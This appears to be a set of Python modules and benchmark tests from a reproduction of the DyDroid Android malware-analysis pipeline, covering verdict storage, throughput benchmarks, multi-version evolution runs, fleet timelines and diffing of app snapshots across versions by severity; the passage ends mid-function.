    One writer publishes 12k records (6k digests x detection+privacy) and
    closes, which advances the sidecar watermark through EOF.  The benched
    stage is the whole warm cycle -- open, two point lookups, close -- and
    the counters must show no scan from offset zero and no index misses.
    """
    from repro.static_analysis.malware.droidnative import Detection
    from repro.store.verdicts import VerdictStore, sqlite_available

    if not sqlite_available():
        pytest.skip("sqlite3 unavailable in this interpreter")

    config = DyDroidConfig(train_samples_per_family=2, run_replays=False)
    path = str(tmp_path / "verdicts.jsonl")
    detection = Detection(
        family="DroidKungFu",
        score=0.91,
        matched_sample_id="DroidKungFu-001",
        matched_functions=7,
        total_functions=9,
    )
    n_digests = 6000
    writer = VerdictStore(path, config)
    try:
        for i in range(n_digests):
            digest = "sha256-{:05d}".format(i)
            writer.put_detection(digest, detection if i % 3 == 0 else None)
            writer.put_privacy(digest, ())
    finally:
        writer.close()

    def warm_cycle():
        store = VerdictStore(path, config)
        try:
            known, found = store.get_detection("sha256-00000")
            assert known and found is not None
            known, leaks = store.get_privacy("sha256-{:05d}".format(n_digests - 1))
            assert known and leaks == ()
            return store.index_stats()
        finally:
            store.close()

    stats = benchmark(warm_cycle)
    assert stats["enabled"]
    assert stats["full_scans"] == 0, stats
    assert stats["index_misses"] == 0, stats
    assert stats["index_hits"] == 2, stats
    record_table(
        "Store",
        "warm open over {} records: {:.1f}ms/cycle, 0 full scans "
        "(sidecar watermark at EOF; 2/2 point lookups via index)".format(
            2 * n_digests, benchmark.stats.stats.mean * 1e3
        ),
    )
