"""System-level throughput benches: the cost of each pipeline stage.

The paper's pitch for its architecture is that dynamic interception feeds a
*cheap* static analysis (Section VI: competing full-system reconstruction
"introduce[s] heavy latency").  These benches quantify our pipeline's
stage costs so regressions in any stage are visible.
"""

import threading

import pytest

from benchmarks.paper_compare import record_table
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.static_analysis.decompiler import Decompiler
from repro.static_analysis.prefilter import prefilter


@pytest.fixture(scope="module")
def slice_corpus():
    return generate_corpus(60, seed=101)


def test_corpus_generation_throughput(benchmark):
    records = benchmark(generate_corpus, 60, 202)
    assert len(records) == 60


def test_decompile_prefilter_throughput(benchmark, slice_corpus):
    decompiler = Decompiler(strict=False)

    def stage():
        return sum(
            prefilter(decompiler.decompile(record.apk)).has_any_dcl
            for record in slice_corpus
        )

    candidates = benchmark(stage)
    assert candidates > 0


def test_dynamic_analysis_throughput(benchmark, slice_corpus):
    dcl = [
        r for r in slice_corpus
        if r.blueprint.dex_dcl_reachable or r.blueprint.native_dcl_reachable
    ][:20]

    def stage():
        intercepted = 0
        for record in dcl:
            engine = AppExecutionEngine(
                EngineOptions(
                    remote_resources=record.remote_resources,
                    companions=record.companions,
                    release_time_ms=record.release_time_ms,
                )
            )
            intercepted += engine.run(record.apk).intercepted_any
        return intercepted

    assert benchmark(stage) > 0


def test_full_pipeline_throughput(benchmark, slice_corpus):
    dydroid = DyDroid(DyDroidConfig(train_samples_per_family=2))

    def stage():
        return dydroid.measure(slice_corpus).n_total

    n = benchmark(stage)
    assert n == len(slice_corpus)
    record_table(
        "Throughput",
        "full pipeline measured {} apps per round; see the benchmark table for timings".format(n),
    )


@pytest.fixture(scope="module")
def warm_service():
    """A running daemon whose cache already holds the benched spec."""
    from repro.service import AnalysisService, ServiceClient, ServiceConfig, make_server

    service = AnalysisService(
        ServiceConfig(
            workers=1,
            pipeline=DyDroidConfig(train_samples_per_family=2, run_replays=False),
        )
    )
    service.start()
    server = make_server(service)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    client = ServiceClient("127.0.0.1", server.server_port)
    spec = {"kind": "corpus", "seed": 101, "n_apps": 60, "index": 3}
    client.submit_and_wait(spec)  # the one (and only) pipeline run
    yield client, spec
    server.shutdown()
    service.drain(timeout=60.0)
    server.server_close()


def test_service_warm_cache_throughput(benchmark, warm_service):
    """HTTP requests/s through submit -> result once the cache is warm.

    The serving overhead per duplicate submission is two JSON round
    trips (no pipeline execution), so this bench bounds the daemon's
    intake rate for a mostly-duplicate workload -- the regime the
    paper's crawl operated in once the common SDK payloads were known.
    """
    client, spec = warm_service

    def round_trips():
        served = 0
        for _ in range(20):
            response = client.submit(spec)
            assert response["cached"]
            served += "analysis" in client.result(response["digest"])
        return served

    assert benchmark(round_trips) == 20
