"""The evolution coordinator: analyze v1..vN, warehouse, diff, summarize.

``run_evolution`` is the longitudinal counterpart of
:func:`repro.farm.coordinator.run_farm`::

    from repro.evolution import EvolveConfig, run_evolution

    result = run_evolution(EvolveConfig(n_apps=24, n_versions=3, seed=7,
                                        verdict_store="verdicts.jsonl"))
    print(result.timeline.render())

Versions are walked **oldest first** -- that ordering is what turns the
shared verdict store into cross-version dedup: version k's workers find
every payload digest that survived from versions 1..k-1 already
published, so only *changed* payloads ever reach DroidNative/FlowDroid.
Within one version, apps fan out across the farm's executor exactly like
a farm run (sync in-process for ``workers <= 1``, a process pool above).

After the last version the coordinator diffs every adjacent snapshot
pair (timed into the ``stage.diff`` histogram, bucketed into
``evolution.drift.*`` counters) and aggregates the fleet timeline.
"""

from __future__ import annotations

import time
from concurrent.futures import as_completed
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.config import DyDroidConfig
from repro.core.report import AppAnalysis, MeasurementReport
from repro.evolution.differ import SnapshotDiff, diff_analyses, diff_digest
from repro.evolution.lineage import LineageSpec
from repro.evolution.timelines import FleetTimeline, build_timeline
from repro.evolution.warehouse import SnapshotWarehouse
from repro.evolution.worker import LineageShardJob, run_lineage_shard
from repro.farm.executors import create_executor
from repro.farm.merger import merge_serialized
from repro.farm.shards import plan_shards
from repro.observe.merge import merge_span_lists
from repro.observe.metrics import (
    MetricsRegistry,
    evolution_summary,
    verdict_cache_summary,
    verdict_store_summary,
)
from repro.store.verdicts import VerdictStore

__all__ = ["EvolveConfig", "EvolveResult", "run_evolution"]


@dataclass
class EvolveConfig:
    """One evolution run: lineage identity, scheduling, mutation hazards."""

    n_apps: int
    n_versions: int = 3
    seed: int = 7
    workers: int = 2
    #: shards per version; default 4x workers, as in the farm.
    n_shards: Optional[int] = None
    spec: LineageSpec = field(default_factory=LineageSpec)
    pipeline: DyDroidConfig = field(default_factory=DyDroidConfig)
    #: snapshot warehouse path; omit to keep snapshots in memory only.
    warehouse: Optional[str] = None
    #: shared verdict store -- the cross-version dedup backbone.
    verdict_store: Optional[str] = None
    trace: bool = False

    def planned_shards(self) -> int:
        return self.n_shards if self.n_shards else max(1, self.workers * 4)


@dataclass
class EvolveResult:
    """Everything one evolution run produced."""

    #: one merged report per version, oldest first.
    reports: List[MeasurementReport]
    #: adjacent-version diffs for every package, deterministic order.
    diffs: List[SnapshotDiff]
    timeline: FleetTimeline
    metrics: Dict[str, object]
    spans: List[Dict[str, object]] = field(default_factory=list)

    @property
    def diff_fingerprint(self) -> str:
        return diff_digest(self.diffs)


def _version_jobs(config: EvolveConfig, version: int) -> List[LineageShardJob]:
    shards = plan_shards(config.n_apps, config.planned_shards())
    return [
        LineageShardJob(
            shard_id=shard.shard_id,
            seed=config.seed,
            n_apps=config.n_apps,
            n_versions=config.n_versions,
            version=version,
            indices=shard.indices,
            config=config.pipeline,
            spec=config.spec,
            trace=config.trace,
            verdict_store=config.verdict_store,
        )
        for shard in shards
    ]


def run_evolution(config: EvolveConfig) -> EvolveResult:
    """Analyze every version of every lineage; diff and aggregate."""
    if config.n_versions < 1:
        raise ValueError("n_versions must be >= 1")
    if config.verdict_store:
        # Same fail-fast contract as the farm coordinator: a fingerprint
        # mismatch should be one clear error, not N worker crashes.
        VerdictStore(config.verdict_store, config.pipeline).close()

    started = time.perf_counter()
    registry = MetricsRegistry()
    registry.gauge("evolution.workers").set(config.workers)
    warehouse = SnapshotWarehouse(config.warehouse) if config.warehouse else None
    reports: List[MeasurementReport] = []
    #: package -> analyses, oldest version first (diff/timeline input).
    history: Dict[str, List[AppAnalysis]] = {}
    shard_spans: List[Tuple[int, List[Dict[str, object]]]] = []
    span_key = 0

    try:
        with create_executor(config.workers) as executor:
            for version in range(1, config.n_versions + 1):
                version_started = time.perf_counter()
                analyses: Dict[int, Dict[str, object]] = {}
                pending = {
                    executor.submit(run_lineage_shard, job): job
                    for job in _version_jobs(config, version)
                }
                for future in as_completed(pending):
                    shard_result = future.result()
                    registry.merge_dict(shard_result.metrics)
                    if shard_result.spans:
                        shard_spans.append((span_key, shard_result.spans))
                        span_key += 1
                    for app_result in shard_result.results:
                        analyses[app_result.index] = app_result.analysis
                report = merge_serialized(analyses)
                reports.append(report)
                for analysis in report.apps:
                    history.setdefault(analysis.package, []).append(analysis)
                    if warehouse is not None:
                        warehouse.append(analysis)
                registry.counter("evolution.versions").inc()
                registry.histogram("stage.version").record(
                    time.perf_counter() - version_started
                )
    finally:
        if warehouse is not None:
            warehouse.close()

    diffs: List[SnapshotDiff] = []
    for package in sorted(history):
        snapshots = history[package]
        for old, new in zip(snapshots, snapshots[1:]):
            diff_started = time.perf_counter()
            diff = diff_analyses(old, new)
            registry.histogram("stage.diff").record(
                time.perf_counter() - diff_started
            )
            registry.counter(
                "evolution.drift.{}".format(diff.severity.label)
            ).inc()
            if not diff.is_empty:
                diffs.append(diff)

    timeline = build_timeline(history)
    wall_s = time.perf_counter() - started
    snapshots_total = sum(report.n_total for report in reports)
    evolution = evolution_summary(registry)
    metrics = {
        "apps": config.n_apps,
        "versions": config.n_versions,
        "snapshots_analyzed": snapshots_total,
        "workers": config.workers,
        "wall_s": round(wall_s, 3),
        "snapshots_per_second": round(snapshots_total / wall_s, 3) if wall_s else 0.0,
        "evolution": evolution,
        "drift": evolution["drift"],
        "verdict_cache": verdict_cache_summary(registry),
        "verdict_store": verdict_store_summary(registry),
        "registry": registry.to_dict(),
    }
    return EvolveResult(
        reports=reports,
        diffs=diffs,
        timeline=timeline,
        metrics=metrics,
        spans=merge_span_lists(shard_spans),
    )
