"""Per-version shard worker for ``repro evolve run``.

Mirrors :mod:`repro.farm.worker`: a top-level function a
``ProcessPoolExecutor`` can ship to a child process, which rematerializes
its slice of the lineage from ``(seed, n_apps, n_versions, version,
indices)`` -- no APK or analysis objects ever cross the process boundary
inbound, and results leave already serialized (``AppAnalysis.to_dict``).

Each worker opens (and owns) its own verdict-store handle from the path;
``flock`` coordinates sibling shards, and because the runner walks
versions oldest-first, version *k*'s workers find every unchanged payload
of versions 1..k-1 already published.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import CorpusGenerator
from repro.evolution.lineage import LineageSpec, build_version_record, plan_lineages
from repro.farm.jobs import AppResult
from repro.observe.metrics import MetricsRegistry
from repro.observe.tracer import NULL_TRACER, Tracer

__all__ = ["LineageShardJob", "LineageShardResult", "run_lineage_shard"]


@dataclass(frozen=True)
class LineageShardJob:
    """Analyze ``indices`` of one lineage version; plain-data, picklable."""

    shard_id: int
    seed: int
    n_apps: int
    n_versions: int
    version: int                 #: 1-based version ordinal to analyze
    indices: Tuple[int, ...]
    config: DyDroidConfig
    spec: LineageSpec = field(default_factory=LineageSpec)
    trace: bool = False
    verdict_store: Optional[str] = None


@dataclass
class LineageShardResult:
    """Serialized analyses plus the worker's spans and metrics."""

    shard_id: int
    version: int
    results: List[AppResult] = field(default_factory=list)
    spans: List[Dict[str, object]] = field(default_factory=list)
    metrics: Dict[str, object] = field(default_factory=dict)
    wall_s: float = 0.0


def run_lineage_shard(job: LineageShardJob) -> LineageShardResult:
    """Build and analyze every app of one (version, shard) cell."""
    started = time.perf_counter()
    tracer = Tracer() if job.trace else NULL_TRACER
    registry = MetricsRegistry()
    generator = CorpusGenerator(seed=job.seed)
    lineages = plan_lineages(
        job.n_apps, job.n_versions, seed=job.seed, spec=job.spec
    )
    dydroid = DyDroid(
        job.config, tracer=tracer, metrics=registry, verdict_store=job.verdict_store
    )
    result = LineageShardResult(shard_id=job.shard_id, version=job.version)

    for index in job.indices:
        app_version = lineages[index].at(job.version)
        build_started = time.perf_counter()
        with tracer.span(
            "evolve.build", index=index, version=job.version
        ):
            record = build_version_record(generator, app_version)
        build_s = time.perf_counter() - build_started
        registry.histogram("stage.build").record(build_s)

        analyze_started = time.perf_counter()
        analysis = dydroid.analyze_app(record)
        analyze_s = time.perf_counter() - analyze_started
        registry.histogram("stage.analyze").record(analyze_s)
        registry.counter("evolution.apps").inc()
        if app_version.mutations:
            registry.counter("evolution.mutated_versions").inc()
        result.results.append(
            AppResult(
                index=index,
                package=record.package,
                analysis=analysis.to_dict(),
                build_s=build_s,
                analyze_s=analyze_s,
            )
        )

    result.wall_s = time.perf_counter() - started
    result.spans = tracer.to_dicts()
    result.metrics = registry.to_dict()
    dydroid.close()
    return result
