"""Fleet-level evolution statistics over a warehouse of snapshots.

Three longitudinal questions the single-snapshot tables cannot answer:

- **first-seen DCL**: at which version did each package first carry DCL
  code?  (The paper's review-then-change threat needs DCL to *appear*
  after version 1 -- ``introduced_after_v1`` counts exactly those.)
- **payload-digest survival**: how long does a given payload binary live
  across an app's versions?  Long-lived digests are what makes the
  cross-version verdict store pay off; churning digests are update noise
  or evasion.
- **verdict flips per SDK entity**: when an app turns malicious, is the
  flipped payload the developer's own code or a third-party SDK's?

``build_timeline`` consumes snapshots grouped per package (oldest version
first, as :func:`load_warehouse_timeline` produces from a warehouse) and
returns a :class:`FleetTimeline` that renders as text or exports as plain
data for ``repro evolve report --json``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.core.report import AppAnalysis

from repro.evolution.warehouse import SnapshotWarehouse

__all__ = ["FleetTimeline", "PackageTimeline", "build_timeline", "load_warehouse_timeline"]


@dataclass
class PackageTimeline:
    """Evolution facts for one package across its stored versions."""

    package: str
    version_codes: List[int] = field(default_factory=list)
    #: version_code of the first snapshot carrying DCL code, if any.
    first_dcl_version: Optional[int] = None
    #: version_code of the first snapshot with a malicious payload, if any.
    first_malicious_version: Optional[int] = None
    #: payload digest -> number of versions it appeared in.
    digest_lifetimes: Dict[str, int] = field(default_factory=dict)

    @property
    def n_versions(self) -> int:
        return len(self.version_codes)

    @property
    def dcl_introduced_after_v1(self) -> bool:
        return (
            self.first_dcl_version is not None
            and bool(self.version_codes)
            and self.first_dcl_version != self.version_codes[0]
        )

    def to_dict(self) -> Dict[str, object]:
        return {
            "package": self.package,
            "version_codes": list(self.version_codes),
            "first_dcl_version": self.first_dcl_version,
            "first_malicious_version": self.first_malicious_version,
            "dcl_introduced_after_v1": self.dcl_introduced_after_v1,
            "digest_lifetimes": dict(sorted(self.digest_lifetimes.items())),
        }


@dataclass
class FleetTimeline:
    """Aggregated evolution statistics across every tracked package."""

    packages: List[PackageTimeline] = field(default_factory=list)
    #: entity label -> {"transitions": adjacent version pairs carrying that
    #: entity's payloads, "flips": pairs where that entity's payloads
    #: turned malicious}.
    entity_flips: Dict[str, Dict[str, int]] = field(default_factory=dict)

    @property
    def n_packages(self) -> int:
        return len(self.packages)

    @property
    def n_snapshots(self) -> int:
        return sum(timeline.n_versions for timeline in self.packages)

    def survival_summary(self) -> Dict[str, object]:
        """How long payload digests live, fleet-wide."""
        lifetimes = [
            lifetime
            for timeline in self.packages
            for lifetime in timeline.digest_lifetimes.values()
        ]
        if not lifetimes:
            return {"digests": 0, "mean_versions": 0.0, "full_lifetime": 0}
        max_versions = max(timeline.n_versions for timeline in self.packages)
        return {
            "digests": len(lifetimes),
            "mean_versions": round(sum(lifetimes) / len(lifetimes), 3),
            #: digests present in every version of a max-length lineage.
            "full_lifetime": sum(1 for life in lifetimes if life == max_versions),
        }

    def flip_rates(self) -> Dict[str, Dict[str, object]]:
        rates: Dict[str, Dict[str, object]] = {}
        for entity, counts in sorted(self.entity_flips.items()):
            transitions = counts.get("transitions", 0)
            flips = counts.get("flips", 0)
            rates[entity] = {
                "transitions": transitions,
                "flips": flips,
                "rate": round(flips / transitions, 4) if transitions else 0.0,
            }
        return rates

    def to_dict(self) -> Dict[str, object]:
        return {
            "n_packages": self.n_packages,
            "n_snapshots": self.n_snapshots,
            "dcl_introduced_after_v1": sum(
                1 for timeline in self.packages if timeline.dcl_introduced_after_v1
            ),
            "first_malicious": {
                timeline.package: timeline.first_malicious_version
                for timeline in self.packages
                if timeline.first_malicious_version is not None
            },
            "digest_survival": self.survival_summary(),
            "verdict_flip_rate_per_entity": self.flip_rates(),
            "packages": [timeline.to_dict() for timeline in self.packages],
        }

    def render(self) -> str:
        survival = self.survival_summary()
        lines = [
            "EVOLUTION TIMELINE: {} packages, {} snapshots".format(
                self.n_packages, self.n_snapshots
            ),
            "  DCL introduced after v1:  {}".format(
                sum(1 for t in self.packages if t.dcl_introduced_after_v1)
            ),
            "  turned malicious:         {}".format(
                sum(1 for t in self.packages if t.first_malicious_version is not None)
            ),
            "  payload digests tracked:  {} (mean lifetime {} versions, "
            "{} alive in every version)".format(
                survival["digests"],
                survival["mean_versions"],
                survival["full_lifetime"],
            ),
            "  verdict flip rate per SDK entity:",
        ]
        rates = self.flip_rates()
        if not rates:
            lines.append("    (no payload-carrying version transitions)")
        for entity, row in rates.items():
            lines.append(
                "    {:<12} {}/{} transitions flipped ({:.2%})".format(
                    entity, row["flips"], row["transitions"], row["rate"]
                )
            )
        return "\n".join(lines)


def build_timeline(
    snapshots_by_package: Dict[str, List[AppAnalysis]]
) -> FleetTimeline:
    """Aggregate per-package snapshot lists (oldest first) into fleet stats."""
    fleet = FleetTimeline()
    for package in sorted(snapshots_by_package):
        snapshots = snapshots_by_package[package]
        timeline = PackageTimeline(package=package)
        previous: Optional[AppAnalysis] = None
        for analysis in snapshots:
            timeline.version_codes.append(analysis.version_code)
            if timeline.first_dcl_version is None and (
                analysis.has_dex_dcl_code or analysis.has_native_dcl_code
            ):
                timeline.first_dcl_version = analysis.version_code
            if timeline.first_malicious_version is None and analysis.malicious_payloads():
                timeline.first_malicious_version = analysis.version_code
            for digest in {p.digest for p in analysis.payloads if p.digest}:
                timeline.digest_lifetimes[digest] = (
                    timeline.digest_lifetimes.get(digest, 0) + 1
                )
            if previous is not None:
                _count_entity_flips(fleet.entity_flips, previous, analysis)
            previous = analysis
        fleet.packages.append(timeline)
    return fleet


def _count_entity_flips(
    counters: Dict[str, Dict[str, int]], old: AppAnalysis, new: AppAnalysis
) -> None:
    """Per-entity malicious flips across one adjacent version pair."""
    old_malicious_entities = {p.entity for p in old.malicious_payloads()}
    for entity in {p.entity for p in new.payloads}:
        bucket = counters.setdefault(
            entity.value, {"transitions": 0, "flips": 0}
        )
        bucket["transitions"] += 1
        flipped = any(
            p.entity is entity
            for p in new.malicious_payloads()
        ) and entity not in old_malicious_entities
        if flipped:
            bucket["flips"] += 1


def load_warehouse_timeline(warehouse: SnapshotWarehouse) -> FleetTimeline:
    """Build the fleet timeline straight from a warehouse on disk."""
    snapshots: Dict[str, List[AppAnalysis]] = {}
    for package in warehouse.packages():
        snapshots[package] = [
            warehouse.get_analysis(package, version_code)
            for version_code in warehouse.versions(package)
        ]
    return build_timeline(snapshots)
