"""Structured diffing of two per-version snapshots of the same package.

``diff_analyses(old, new)`` compares what DyDroid concluded about two
versions of one app and emits typed :class:`DriftFinding` records, each
placed in a severity bucket:

====================  ==========  =============================================
finding kind          severity    meaning
====================  ==========  =============================================
dcl_introduced        suspicious  an update gained its first DCL code
dcl_call_sites        benign      the set of DCL call-site classes changed
dcl_dropped           benign      an update removed all DCL code
payload_added         benign      a new payload path was intercepted
payload_removed       benign      a payload path stopped loading
payload_digest        benign      same path, different bytes (digest churn)
split_added           benign      a feature/config split started loading
split_removed         benign      a feature/config split stopped loading
split_digest          benign      a split's bytes changed (split update)
hazard_added          suspicious  a new ecosystem hazard class appeared
hazard_removed        benign      a hazard class disappeared
provenance_remote     suspicious  a payload flipped local -> remote fetch
provenance_local      benign      a payload flipped remote -> local
verdict_malicious     critical    a payload (or the app) flipped
                                  benign -> malicious
verdict_cleared       benign      a previously malicious payload went clean
leaks_added           suspicious  new privacy-leak data types appear
leaks_removed         benign      leak data types disappeared
obfuscation_added     suspicious  new obfuscation/packing techniques
obfuscation_removed   benign      techniques disappeared
decompile_failed      suspicious  the new version resists decompilation
outcome_changed       benign      dynamic-analysis outcome bucket moved
====================  ==========  =============================================

The diff's overall severity is the **max** over its findings, which gives
the monotonicity property the tests pin down: adding a malicious verdict
flip to any diff can only raise (never lower) the bucket.  Two identical
snapshots always produce an empty diff.

``diff_digest`` hashes a canonical JSON rendering of a diff list, giving
``repro evolve diff`` a single stable fingerprint: two runs over the same
lineage must print the same digest, byte for byte.
"""

from __future__ import annotations

import enum
import hashlib
import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.report import AppAnalysis, PayloadVerdict
from repro.dynamic.provenance import Provenance

__all__ = [
    "DriftFinding",
    "DriftSeverity",
    "SnapshotDiff",
    "diff_analyses",
    "diff_digest",
]


class DriftSeverity(enum.IntEnum):
    """Ordered drift buckets; a diff's severity is the max of its findings."""

    NONE = 0        #: no change at all
    BENIGN = 1      #: ordinary update churn
    SUSPICIOUS = 2  #: escalation worth an analyst's eyes
    CRITICAL = 3    #: the app turned malicious

    @property
    def label(self) -> str:
        return self.name.lower()


@dataclass(frozen=True)
class DriftFinding:
    """One typed observation about what changed between two versions."""

    kind: str
    severity: DriftSeverity
    detail: str

    def to_dict(self) -> Dict[str, object]:
        return {
            "kind": self.kind,
            "severity": self.severity.label,
            "detail": self.detail,
        }


@dataclass
class SnapshotDiff:
    """Everything that drifted between two versions of one package."""

    package: str
    old_version: int
    new_version: int
    findings: List[DriftFinding] = field(default_factory=list)

    @property
    def severity(self) -> DriftSeverity:
        return max(
            (finding.severity for finding in self.findings),
            default=DriftSeverity.NONE,
        )

    @property
    def is_empty(self) -> bool:
        return not self.findings

    def to_dict(self) -> Dict[str, object]:
        return {
            "package": self.package,
            "old_version": self.old_version,
            "new_version": self.new_version,
            "severity": self.severity.label,
            "findings": [finding.to_dict() for finding in self.findings],
        }

    def render(self) -> str:
        lines = [
            "{} v{} -> v{}: {} ({} finding{})".format(
                self.package,
                self.old_version,
                self.new_version,
                self.severity.label,
                len(self.findings),
                "" if len(self.findings) == 1 else "s",
            )
        ]
        for finding in self.findings:
            lines.append(
                "  [{}] {}: {}".format(
                    finding.severity.label, finding.kind, finding.detail
                )
            )
        return "\n".join(lines)


def _call_sites(analysis: AppAnalysis) -> Tuple[frozenset, frozenset]:
    prefilter = analysis.prefilter
    if prefilter is None:
        return frozenset(), frozenset()
    return (
        frozenset(prefilter.dex_call_site_classes),
        frozenset(prefilter.native_call_site_classes),
    )


def _payloads_by_path(analysis: AppAnalysis) -> Dict[str, PayloadVerdict]:
    by_path: Dict[str, PayloadVerdict] = {}
    for payload in analysis.payloads:
        by_path.setdefault(payload.path, payload)
    return by_path


def _leak_types(analysis: AppAnalysis) -> frozenset:
    return frozenset(analysis.leaked_types())


def _techniques(analysis: AppAnalysis) -> frozenset:
    profile = analysis.obfuscation
    return frozenset(profile.techniques()) if profile else frozenset()


def _fmt(values) -> str:
    return ", ".join(sorted(values))


def _is_split_path(path: str) -> bool:
    """Feature/config splits are first-class: their churn diffs separately."""
    basename = path.rsplit("/", 1)[-1]
    return basename.startswith("split_") or basename.startswith("config.")


def _hazard_classes(analysis: AppAnalysis) -> frozenset:
    return frozenset(h for p in analysis.payloads for h in p.hazards)


def diff_analyses(old: AppAnalysis, new: AppAnalysis) -> SnapshotDiff:
    """Structured behavior drift between two snapshots of one package."""
    if old.package != new.package:
        raise ValueError(
            "cannot diff different packages ({} vs {})".format(
                old.package, new.package
            )
        )
    diff = SnapshotDiff(
        package=old.package,
        old_version=old.version_code,
        new_version=new.version_code,
    )
    out = diff.findings.append

    # -- decompilation resistance ------------------------------------------------
    if old.decompile_failed != new.decompile_failed:
        if new.decompile_failed:
            out(
                DriftFinding(
                    "decompile_failed",
                    DriftSeverity.SUSPICIOUS,
                    "new version resists decompilation",
                )
            )
        else:
            out(
                DriftFinding(
                    "decompile_restored",
                    DriftSeverity.BENIGN,
                    "new version decompiles again",
                )
            )

    # -- DCL call-site set changes -------------------------------------------------
    old_has_dcl = old.has_dex_dcl_code or old.has_native_dcl_code
    new_has_dcl = new.has_dex_dcl_code or new.has_native_dcl_code
    if not old_has_dcl and new_has_dcl:
        out(
            DriftFinding(
                "dcl_introduced",
                DriftSeverity.SUSPICIOUS,
                "update gained its first dynamic-code-loading call site",
            )
        )
    elif old_has_dcl and not new_has_dcl:
        out(
            DriftFinding(
                "dcl_dropped", DriftSeverity.BENIGN, "update removed all DCL code"
            )
        )
    old_dex_sites, old_native_sites = _call_sites(old)
    new_dex_sites, new_native_sites = _call_sites(new)
    for side, old_sites, new_sites in (
        ("dex", old_dex_sites, new_dex_sites),
        ("native", old_native_sites, new_native_sites),
    ):
        added, removed = new_sites - old_sites, old_sites - new_sites
        if added:
            out(
                DriftFinding(
                    "dcl_call_sites",
                    DriftSeverity.BENIGN,
                    "{} call sites added: {}".format(side, _fmt(added)),
                )
            )
        if removed:
            out(
                DriftFinding(
                    "dcl_call_sites",
                    DriftSeverity.BENIGN,
                    "{} call sites removed: {}".format(side, _fmt(removed)),
                )
            )

    # -- per-payload transitions ---------------------------------------------------
    old_payloads = _payloads_by_path(old)
    new_payloads = _payloads_by_path(new)
    for path in sorted(new_payloads.keys() - old_payloads.keys()):
        split = _is_split_path(path)
        out(
            DriftFinding(
                "split_added" if split else "payload_added",
                DriftSeverity.BENIGN,
                "new {} intercepted: {}".format("split" if split else "payload", path),
            )
        )
    for path in sorted(old_payloads.keys() - new_payloads.keys()):
        split = _is_split_path(path)
        out(
            DriftFinding(
                "split_removed" if split else "payload_removed",
                DriftSeverity.BENIGN,
                "{} no longer loads: {}".format("split" if split else "payload", path),
            )
        )
    for path in sorted(old_payloads.keys() & new_payloads.keys()):
        before, after = old_payloads[path], new_payloads[path]
        if before.digest and after.digest and before.digest != after.digest:
            out(
                DriftFinding(
                    "split_digest" if _is_split_path(path) else "payload_digest",
                    DriftSeverity.BENIGN,
                    "{}: bytes changed ({}.. -> {}..)".format(
                        path, before.digest[:12], after.digest[:12]
                    ),
                )
            )
        if before.provenance != after.provenance:
            if after.provenance is Provenance.REMOTE:
                out(
                    DriftFinding(
                        "provenance_remote",
                        DriftSeverity.SUSPICIOUS,
                        "{}: local -> remote fetch ({})".format(
                            path, _fmt(after.remote_sources) or "unknown source"
                        ),
                    )
                )
            else:
                out(
                    DriftFinding(
                        "provenance_local",
                        DriftSeverity.BENIGN,
                        "{}: remote -> locally bundled".format(path),
                    )
                )

    # -- ecosystem hazard drift (app-level, like verdict flips) ---------------------
    old_hazards, new_hazards = _hazard_classes(old), _hazard_classes(new)
    if new_hazards - old_hazards:
        out(
            DriftFinding(
                "hazard_added",
                DriftSeverity.SUSPICIOUS,
                "new hazard classes: {}".format(_fmt(new_hazards - old_hazards)),
            )
        )
    if old_hazards - new_hazards:
        out(
            DriftFinding(
                "hazard_removed",
                DriftSeverity.BENIGN,
                "hazard classes gone: {}".format(_fmt(old_hazards - new_hazards)),
            )
        )

    # -- verdict flips (app-level so path churn cannot hide a flip) -----------------
    old_families = {
        p.detection.family for p in old.malicious_payloads() if p.detection
    }
    new_families = {
        p.detection.family for p in new.malicious_payloads() if p.detection
    }
    if not old_families and new_families:
        out(
            DriftFinding(
                "verdict_malicious",
                DriftSeverity.CRITICAL,
                "benign -> malicious ({})".format(_fmt(new_families)),
            )
        )
    elif old_families and not new_families:
        out(
            DriftFinding(
                "verdict_cleared",
                DriftSeverity.BENIGN,
                "previously malicious payloads ({}) are gone".format(
                    _fmt(old_families)
                ),
            )
        )
    elif new_families - old_families:
        out(
            DriftFinding(
                "verdict_malicious",
                DriftSeverity.CRITICAL,
                "new malware families: {}".format(_fmt(new_families - old_families)),
            )
        )

    # -- privacy-leak drift ----------------------------------------------------------
    old_leaks, new_leaks = _leak_types(old), _leak_types(new)
    if new_leaks - old_leaks:
        out(
            DriftFinding(
                "leaks_added",
                DriftSeverity.SUSPICIOUS,
                "new leaked data types: {}".format(_fmt(new_leaks - old_leaks)),
            )
        )
    if old_leaks - new_leaks:
        out(
            DriftFinding(
                "leaks_removed",
                DriftSeverity.BENIGN,
                "no longer leaked: {}".format(_fmt(old_leaks - new_leaks)),
            )
        )

    # -- obfuscation drift -------------------------------------------------------------
    old_tech, new_tech = _techniques(old), _techniques(new)
    if new_tech - old_tech:
        out(
            DriftFinding(
                "obfuscation_added",
                DriftSeverity.SUSPICIOUS,
                "new techniques: {}".format(_fmt(new_tech - old_tech)),
            )
        )
    if old_tech - new_tech:
        out(
            DriftFinding(
                "obfuscation_removed",
                DriftSeverity.BENIGN,
                "dropped techniques: {}".format(_fmt(old_tech - new_tech)),
            )
        )

    # -- vulnerability drift -------------------------------------------------------------
    old_vulns = {(f.code_kind, f.category.value) for f in old.vulnerabilities}
    new_vulns = {(f.code_kind, f.category.value) for f in new.vulnerabilities}
    for kind, category in sorted(new_vulns - old_vulns):
        out(
            DriftFinding(
                "vulnerability_added",
                DriftSeverity.SUSPICIOUS,
                "new risky load: {}/{}".format(kind, category),
            )
        )
    for kind, category in sorted(old_vulns - new_vulns):
        out(
            DriftFinding(
                "vulnerability_removed",
                DriftSeverity.BENIGN,
                "risky load gone: {}/{}".format(kind, category),
            )
        )

    # -- dynamic outcome ------------------------------------------------------------------
    old_outcome = old.outcome.value if old.outcome else None
    new_outcome = new.outcome.value if new.outcome else None
    if old_outcome != new_outcome:
        out(
            DriftFinding(
                "outcome_changed",
                DriftSeverity.BENIGN,
